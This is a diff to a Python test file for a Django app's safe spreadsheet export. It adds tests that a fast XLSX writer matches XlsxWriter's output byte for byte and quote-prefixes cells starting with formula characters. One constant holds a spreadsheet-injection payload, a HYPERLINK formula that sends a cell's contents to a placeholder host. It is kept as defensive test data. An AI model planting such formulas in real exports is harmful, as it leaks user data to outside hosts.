@@ -11,11 +11,18 @@ from decimal import Decimal
 
 import openpyxl
 import pytest
+import xlsxwriter
 from django.urls import reverse
 
 from dropcopy_admin import clock
 from dropcopy_admin.choices import Role
-from dropcopy_admin.spreadsheets import SafeWorkbook, safe_csv_cell, safe_csv_row, without_control_characters
+from dropcopy_admin.spreadsheets import (
+    SafeWorkbook,
+    _RowFile,
+    safe_csv_cell,
+    safe_csv_row,
+    without_control_characters,
+)
 from tests import factories
 
 FORMULA = '=HYPERLINK("http://x"&B2,"Invoice")'
@@ -111,6 +118,64 @@ def test_xlsx_numbers_and_dates_keep_their_types(read_back):
     assert (moment.value, moment.data_type) == (dt.datetime(2025, 5, 1, 9, 30), "d")
     assert (aware.value, aware.data_type) == ("2025-05-01T09:30:00+00:00", "s")  # Excel has no time zones
     assert empty.value is None
+
+
+def test_xlsx_fast_paths_write_the_bytes_of_xlsxwriters_public_methods():
+    """``SafeSheet`` calls XlsxWriter's undecorated writers and gives each worksheet a write-only row
+    file (``_RowFile``): the workbook is byte for byte the one the public ``write_string`` and
+    ``write_number`` write, over two sheets, with text that is quoted, escaped, padded, multi-line
+    and non-ASCII, and numbers with and without a format."""
+    lines = [
+        ["Acme & Sons <Ltd>", "=1+1", Decimal("-125.50"), 7, "  padded  ", "note\n\tsecond\r\nthird", "Zürich €"],
+        ["_x0041_ literal", None, Decimal("0.00"), 2.5, "", "B" * 5000, "-credit"],
+    ]
+    totals = [["B0001", "Bench", Decimal("1234567.89"), "USD"]]
+
+    safe = io.BytesIO()
+    with SafeWorkbook(safe) as workbook:
+        for name, rows, amount in (("lines", lines, 2), ("totals", totals, 2)):
+            sheet = workbook.sheet(name)
+            for row in rows:
+                sheet.append(row, {amount: "0.00"})
+
+    public = io.BytesIO()
+    book = xlsxwriter.Workbook(public, {"constant_memory": True, "strings_to_formulas": False})
+    book.set_properties({"created": dt.datetime(2000, 1, 1)})
+    quoted, cents = book.add_format({"quote_prefix": True}), book.add_format({"num_format": "0.00"})
+    for name, rows, amount in (("lines", lines, 2), ("totals", totals, 2)):
+        worksheet = book.add_worksheet(name)
+        for row_number, row in enumerate(rows):
+            for column, value in enumerate(row):
+                if isinstance(value, str) and value:
+                    worksheet.write_string(row_number, column, value, quoted if value[0] in "=+-@" else None)
+                elif value is not None and not isinstance(value, str):
+                    worksheet.write_number(row_number, column, value, cents if column == amount else None)
+    book.close()
+
+    assert safe.getvalue() == public.getvalue()
+    cells = openpyxl.load_workbook(io.BytesIO(safe.getvalue())).worksheets[0][1]
+    assert [cell.value for cell in cells] == [
+        "Acme & Sons <Ltd>",
+        "=1+1",
+        Decimal("-125.50"),
+        7,
+        "  padded  ",
+        "note\n\tsecond_x000D_\nthird",  # openpyxl leaves OOXML's escape of the carriage return
+        "Zürich €",
+    ]
+
+
+def test_xlsx_the_pinned_xlsxwriter_still_offers_what_the_fast_paths_rely_on():
+    """If an XlsxWriter upgrade drops its undecorated writers or changes how it opens the row file,
+    ``SafeSheet`` falls back to the public methods and XlsxWriter's own file (correct, but slower):
+    this says so before the export benchmark does."""
+    with SafeWorkbook(io.BytesIO()) as workbook:
+        sheet = workbook.sheet("cells")
+        worksheet = sheet._sheet
+        assert isinstance(worksheet.row_data_fh, _RowFile) and worksheet.fh is worksheet.row_data_fh
+        assert sheet._write_string == worksheet._write_string
+        assert sheet._write_number == worksheet._write_number
+        sheet.append(["kept"])
 
 
 # --- the approval queue's CSV (the portal) -------------------------------------------------------
